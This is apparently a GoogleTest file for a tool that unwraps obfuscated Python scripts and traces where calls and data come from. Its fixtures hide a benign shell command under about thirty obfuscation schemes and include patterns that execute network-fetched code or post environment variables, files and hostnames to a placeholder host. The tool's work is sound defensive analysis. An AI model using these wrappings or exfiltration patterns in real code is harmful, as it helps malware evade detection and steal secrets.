#include "unwrap/unwrap.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <vector>

namespace pyverdict::unwrap {
namespace {

// What all the wrappings below hide.
constexpr std::string_view kPayload = "import os\nos.system('id > /tmp/x')\n";

bool has_layer(const Program& program, std::string_view text) {
  return std::any_of(program.layers.begin(), program.layers.end(),
                     [&](const Layer& layer) { return layer.text == text; });
}

std::string texts(const Program& program) {
  std::string all;
  for (const Layer& layer : program.layers) {
    all += "--- " + std::to_string(layer.id) + " " + std::string(name(layer.kind));
    for (const std::string& via : layer.via) all += " <" + via;
    all += "\n" + layer.text + "\n";
  }
  return all;
}

struct Wrapping {
  const char* name;
  std::string script;
};

void PrintTo(const Wrapping& wrapping, std::ostream* out) { *out << wrapping.name; }

class Opens : public testing::TestWithParam<Wrapping> {};

TEST_P(Opens, ThePayloadIsALayer) {
  const Program program = unwrap(GetParam().script);
  EXPECT_TRUE(has_layer(program, kPayload)) << texts(program);
}

// Made with Python's own modules from the payload above.
const std::string kBase64 = "aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQgPiAvdG1wL3gnKQo=";
const std::string kHex = "696d706f7274206f730a6f732e73797374656d28276964203e202f746d702f7827290a";

INSTANTIATE_TEST_SUITE_P(
    Wrappings, Opens,
    testing::Values(
        Wrapping{"Base64", "import base64\nexec(base64.b64decode('" + kBase64 + "'))"},
        Wrapping{"FromImport", "from base64 import b64decode as d\nexec(d(b'" + kBase64 + "').decode())"},
        Wrapping{"Variables",
                 "import base64\na = '" + kBase64 + "'\nb = base64.b64decode\nc = exec\nc(b(a))"},
        Wrapping{"Hex", "exec(bytes.fromhex('" + kHex + "'))"},
        Wrapping{"Unhexlify", "import binascii\nexec(binascii.unhexlify('" + kHex + "').decode('utf-8'))"},
        Wrapping{"Zlib",
                 "import "
                 "zlib,base64\nexec(zlib.decompress(base64.b64decode('eJzLzC3ILypRyC/myi/"
                 "WK64sLknN1VDPTFGwU9AvyS3Qr1DX5AIA4pkLeA==')))"},
        Wrapping{"Reversed",
                 "exec(" + std::string("\"\\n)'x/pmt/ > di'(metsys.so\\nso tropmi\"[::-1]") + ")"},
        Wrapping{"Rot13",
                 "import codecs\nexec(codecs.decode(\"vzcbeg bf\\nbf.flfgrz('vq > /gzc/k')\\n\", 'rot13'))"},
        Wrapping{"Replace", "exec(\"impXXort os\\nos.sysXXtem('id > /tmp/x')\\n\".replace('XX', ''))"},
        Wrapping{"Concatenated", "exec('import os\\n' + \"os.sys\" + \"tem('id > /tmp/x')\\n\")"},
        Wrapping{"Joined", "exec(''.join(['import os\\n', \"os.system('id > /tmp/x')\", '\\n']))"},
        Wrapping{"Percent", "exec('import %s\\n%s.system(%r)\\n' % ('os', 'os', 'id > /tmp/x'))"},
        Wrapping{"Format", "exec('import {0}\\n{0}.system({1!r})\\n'.format('os', 'id > /tmp/x'))"},
        Wrapping{"FString", "m = 'os'\nexec(f'import {m}\\n{m}.system({\"id > /tmp/x\"!r})\\n')"},
        Wrapping{"ChrJoin",
                 "exec(''.join(chr(c) for c in "
                 "[105,109,112,111,114,116,32,111,115,10,111,115,46,115,121,115,116,101,"
                 "109,40,39,105,100,32,62,32,47,116,109,112,47,120,39,41,10]))"},
        Wrapping{
            "MapChr",
            "exec(''.join(map(chr, [105,109,112,111,114,116,32,111,115,10,111,115,46,115,121,115,116,101,"
            "109,40,39,105,100,32,62,32,47,116,109,112,47,120,39,41,10])))"},
        Wrapping{"BytesList",
                 "exec(bytes([105,109,112,111,114,116,32,111,115,10,111,115,46,115,121,115,116,101,"
                 "109,40,39,105,100,32,62,32,47,116,109,112,47,120,39,41,10]))"},
        Wrapping{"XorGenerator",
                 "k = 1\nexec(bytes(b ^ k for b in "
                 "bytes.fromhex('686c716e7375216e720b6e722f72787275646c29266865213f212e756c712e7926280b'))."
                 "decode())"},
        Wrapping{
            "UserFunction",
            "def d(s, k):\n    out = ''\n    for i in range(len(s)):\n        out += chr(ord(s[i]) - k)\n"
            "    return out\n"
            "exec(d(\"jnqpsu!pt\\x0bpt/tztufn)(je!?!0unq0y(*\\x0b\", 1))"},
        Wrapping{"GetattrBuiltins",
                 "import base64\ngetattr(__builtins__, 'ex' + 'ec')(base64.b64decode('" + kBase64 + "'))"},
        Wrapping{"DunderImport", "exec(__import__('base64').b64decode('" + kBase64 + "'))"},
        Wrapping{"Globals", "import base64\nglobals()['__builtins__'].__dict__['exec'](base64.b64decode('" +
                                kBase64 + "'))"},
        Wrapping{"Lambda", "_ = lambda __ : __import__('base64').b64decode(__[::-1])\nexec((_)(b'" +
                               std::string(kBase64.rbegin(), kBase64.rend()) + "'))"},
        Wrapping{"Compile",
                 "import base64\nexec(compile(base64.b64decode('" + kBase64 + "'), '<string>', 'exec'))"},
        Wrapping{"InClass", "import base64\nclass A:\n    def __init__(self):\n        self.p = '" + kBase64 +
                                "'\n    def run(self):\n        exec(base64.b64decode(self.p))\nA().run()"},
        Wrapping{"InTry",
                 "import base64\ntry:\n    exec(base64.b64decode('" + kBase64 + "'))\nexcept:\n    pass"},
        Wrapping{
            "Base32",
            "import "
            "base64\nexec(base64.b32decode('NFWXA33SOQQG64YKN5ZS443ZON2GK3JIE5UWIIB6EAXXI3LQF54COKIK'))"},
        Wrapping{"Base85",
                 "import base64\nexec(base64.b85decode('X>D+Ca&#bXa|&;BE^~QvbY*QQCuw9LJ|Hi2ZE!DmCn*X'))"},
        Wrapping{"Python2", "exec '" + kBase64 + "'.decode('base64')"},
        Wrapping{"PythonC",
                 "import subprocess\nsubprocess.run(['python3', '-c', \"import os\\nos.system('id > "
                 "/tmp/x')\\n\"])"}),
    [](const testing::TestParamInfo<Wrapping>& wrapping) { return wrapping.param.name; });

TEST(Layers, AreNestedAndSayHow) {
  const std::string inner = "exec(__import__('base64').b64decode('" + kBase64 + "'))";
  std::string hex = "";
  for (const char c : inner) {
    hex += "0123456789abcdef"[static_cast<unsigned char>(c) >> 4];
    hex += "0123456789abcdef"[static_cast<unsigned char>(c) & 15];
  }
  const std::string script = "x = 1\nexec(bytes.fromhex('" + hex + "'))\n";
  const Program program = unwrap(script);
  ASSERT_EQ(program.layers.size(), 4u) << texts(program);
  EXPECT_EQ(program.layers[1].parent, 0u);
  EXPECT_EQ(program.layers[1].via, (std::vector<std::string>{"exec", "hex"}));
  EXPECT_EQ(script.substr(program.layers[1].span.start, 13), "bytes.fromhex");
  EXPECT_EQ(program.layers[2].parent, 1u);
  EXPECT_EQ(program.layers[2].via, (std::vector<std::string>{"exec", "base64"}));
  EXPECT_EQ(program.layers[3].kind, LayerKind::Shell);
  EXPECT_EQ(program.layers[3].via, (std::vector<std::string>{"os.system"}));
  EXPECT_EQ(program.layers[3].text, "id > /tmp/x");
}

// The symbols of all calls, in order.
std::vector<std::string> calls(const Program& program) {
  std::vector<std::string> result;
  for (const Layer& layer : program.layers) {
    for (const Fact& fact : layer.facts) {
      if (fact.kind == FactKind::Call) result.emplace_back(program.symbols.text(fact.symbol));
    }
  }
  return result;
}

struct Resolution {
  const char* script;
  const char* call;
};

class Resolves : public testing::TestWithParam<Resolution> {};

TEST_P(Resolves, TheCallee) {
  const auto found = calls(unwrap(GetParam().script));
  EXPECT_NE(std::find(found.begin(), found.end(), GetParam().call), found.end())
      << GetParam().script << " gave " << testing::PrintToString(found);
}

INSTANTIATE_TEST_SUITE_P(
    Names, Resolves,
    testing::Values(
        Resolution{"import os\nos.system(x)", "os.system"},
        Resolution{"import os as o\no.system(x)", "os.system"},
        Resolution{"from os import system\nsystem(x)", "os.system"},
        Resolution{"from os import *\nsystem(x)", "os.system"},
        Resolution{"import os\ngetattr(os, 'sys' + 'tem')(x)", "os.system"},
        Resolution{"import os\nos.__dict__['system'](x)", "os.system"},
        Resolution{"import sys\nsys.modules['os'].system(x)", "os.system"},
        Resolution{"__import__('os').system(x)", "os.system"},
        Resolution{"import importlib\nimportlib.import_module('os').system(x)", "os.system"},
        Resolution{"import os\nd = {'a': os.system}\nd['a'](x)", "os.system"},
        Resolution{"import os\nf = [os.system][0]\nf(x)", "os.system"},
        Resolution{"import urllib2\nurllib2.urlopen(x)", "urllib.request.urlopen"},
        Resolution{"import posix\nposix.system(x)", "os.system"},
        Resolution{"import builtins\nbuiltins.eval(x)", "eval"},
        Resolution{"eval(\"__import__('os')\").system(x)", "os.system"},
        Resolution{"import socket\ns = socket.socket()\ns.connect(x)", "socket.socket().connect"},
        Resolution{"import socket\ndef f():\n  s = socket.socket()\n  return s\nf().connect(x)",
                   "socket.socket().connect"},
        Resolution{"import requests\nwith requests.Session() as s:\n  s.get(x)", "requests.Session().get"},
        Resolution{"import socket\nclass C:\n  def __init__(self):\n    self.s = socket.socket()\n"
                   "  def go(self):\n    self.s.connect(x)\n",
                   "socket.socket().connect"},
        Resolution{"def f(cb):\n  cb.send(1)\n", "?.send"}));

const Fact* find_call(const Program& program, std::string_view symbol) {
  for (const Layer& layer : program.layers) {
    for (const Fact& fact : layer.facts) {
      if (fact.kind == FactKind::Call && program.symbols.text(fact.symbol) == symbol) return &fact;
    }
  }
  return nullptr;
}

struct Flowing {
  const char* script;
  const char* sink;
  Origins origins;
};

class Origin : public testing::TestWithParam<Flowing> {};

TEST_P(Origin, IsCarriedToTheSink) {
  const Program program = unwrap(GetParam().script);
  const Fact* fact = find_call(program, GetParam().sink);
  ASSERT_NE(fact, nullptr);
  Origins origins = 0;
  for (const Layer& layer : program.layers) {
    for (const Fact& other : layer.facts) {
      if (&other != fact) continue;
      for (const Argument& argument : other.arguments) origins |= argument.value.origins;
    }
  }
  EXPECT_EQ(origins & GetParam().origins, GetParam().origins) << origins;
}

INSTANTIATE_TEST_SUITE_P(
    Sources, Origin,
    testing::Values(
        Flowing{"import requests\nexec(requests.get('http://h.example.invalid').text)", "exec", kFromNetwork},
        Flowing{"import urllib.request as u\nd = u.urlopen(x).read().decode()\neval(d)", "eval",
                kFromNetwork},
        Flowing{"import os, requests\nrequests.post(x, json=dict(os.environ))", "requests.post",
                kFromEnvironment},
        Flowing{"import os, requests\nrequests.post(x, data={'e': os.environ['K']})", "requests.post",
                kFromEnvironment},
        Flowing{"import socket, requests\nrequests.post(x, data=socket.gethostname())", "requests.post",
                kFromHost},
        Flowing{"import requests\nrequests.post(x, data=open('f').read())", "requests.post", kFromFile},
        Flowing{"import os, sys\nos.system(sys.argv[1])", "os.system", kFromArgument},
        Flowing{"import base64\nexec(base64.b64decode(open(__file__).read()))", "exec",
                kFromDecoded | kFromFile},
        Flowing{"import os\ndef f(c):\n  os.system(c)\n", "os.system", kFromParameter}));

TEST(Context, SaysWhatCannotRun) {
  const char* scripts[] = {"import os\nif False:\n  os.system(x)\n",
                           "import os, sys\nsys.exit()\nos.system(x)\n",
                           "import os\ndef f():\n  return 1\n  os.system(x)\nf()\n"};
  for (const char* script : scripts) {
    const Program program = unwrap(script);
    const Fact* fact = find_call(program, "os.system");
    ASSERT_NE(fact, nullptr) << script;
    EXPECT_NE(fact->context & kUnreachable, 0) << script;
  }
}

TEST(Context, SaysHowItRuns) {
  const Program program = unwrap(
      "import os\n"
      "if __name__ == '__main__':\n  os.popen(x)\n"
      "def f():\n  os.system(x)\n"
      "while True:\n  os.remove(x)\n");
  EXPECT_NE(find_call(program, "os.popen")->context & kInMainGuard, 0);
  EXPECT_EQ(find_call(program, "os.popen")->context & kUnreachable, 0);
  EXPECT_NE(find_call(program, "os.system")->context & kUncalled, 0);
  EXPECT_NE(find_call(program, "os.remove")->context & kForever, 0);
}

TEST(Text, IsFoldedAsFarAsItIsKnown) {
  const Program program = unwrap("import requests\nh = input()\nrequests.get(f'http://{h}/a')");
  const Fact* fact = find_call(program, "requests.get");
  ASSERT_NE(fact, nullptr);
  const Argument& argument = fact->arguments[0];
  EXPECT_TRUE(argument.value.partial);
  EXPECT_EQ(program.store.string(argument.value), "http://\xEF\xBF\xBC/a");
}

TEST(Bounds, AreDiagnosticsAndNotHangs) {
  Limits limits;
  limits.max_steps = 200'000;
  const char* scripts[] = {
      "x = 'a'\nwhile True:\n  x = x + x\n",
      "x = 'a' * 10**12\nexec(x)\n",
      "s = 0\nfor i in range(10**9):\n  s += i\n",
      "def f(n):\n  return f(n - 1) + f(n - 2)\nf(90)\n",
      "a = [1]\nfor i in range(100):\n  a = a + a\n",
      "x = '\\0'.join('a' * 9999999)\n",
      "class A:\n  def __str__(self):\n    return str(self).encode('ascii')\nprint(str(A()))\n",
      "x = b'a'\nfor i in range(99):\n  x = repr(x)\n",
  };
  for (const char* script : scripts) {
    const Program program = unwrap(script, LayerKind::Python, limits);
    EXPECT_EQ(program.layers[0].text, script);
    EXPECT_LT(program.store.size(), 2 * limits.max_value_bytes) << script;
  }
}

TEST(Bounds, OnDepthAndNumberOfLayers) {
  Limits limits;
  limits.max_layers = 3;
  std::string script;
  for (int i = 0; i < 9; ++i) script += "exec('x = " + std::to_string(i) + "')\n";
  const Program program = unwrap(script, LayerKind::Python, limits);
  EXPECT_EQ(program.layers.size(), 3u);
  EXPECT_TRUE(std::any_of(program.diagnostics.begin(), program.diagnostics.end(),
                          [](const auto& d) { return d.code == diagnostic::Code::TooManyLayers; }));
}

TEST(Bounds, AFunctionOfOneLayerIsNoneOfAnother) {
  const Program program = unwrap(
      "import builtins\ndef f():\n    builtins.len = lambda x: 4\n    eval('lambda: len([])', {})\nf()\n");
  EXPECT_GE(program.layers.size(), 1u);
}

TEST(Bounds, AnInstanceThatIsItsOwnCallEnds) {
  EXPECT_EQ(unwrap("class A:\n    pass\na = A()\nA.__call__ = a\na.__call__ = a\na()\n").layers.size(), 1u);
}

TEST(Bounds, AQuineEnds) {
  const Program program = unwrap("s = 's = %r\\nexec(s %% s)'\nexec(s % s)");
  EXPECT_LE(program.layers.size(), 3u);
}

TEST(Unwrap, EvaluatedTextNeverHoldsWhatBelongsToTheCodeAroundIt) {
  // Only that nothing crashes: objects, functions and lists of them cross into eval and back.
  for (const std::string_view script :
       {"class A:\n    def __add__(self, o):\n        return o\nl = [A(), A()]\nx = eval('l[0] + l[1]')\n",
        "class A:\n    def __add__(self, o):\n        return o\ny = eval('A() + A()')\n",
        "def f(g):\n    return g(1)\nz = eval('f(lambda a: a)')\n",
        "def f(a):\n    return a[0]()\nz = eval('f([lambda: 1])')\n",
        "class A:\n    pass\nA.__call__ = A()\nA()()\n",
        "class A:\n    pass\na = A()\nclass B:\n    __call__ = a\nA.__call__ = B()\na()\n"}) {
    EXPECT_FALSE(unwrap(std::string(script)).layers.empty());
  }
}

}  // namespace
}  // namespace pyverdict::unwrap
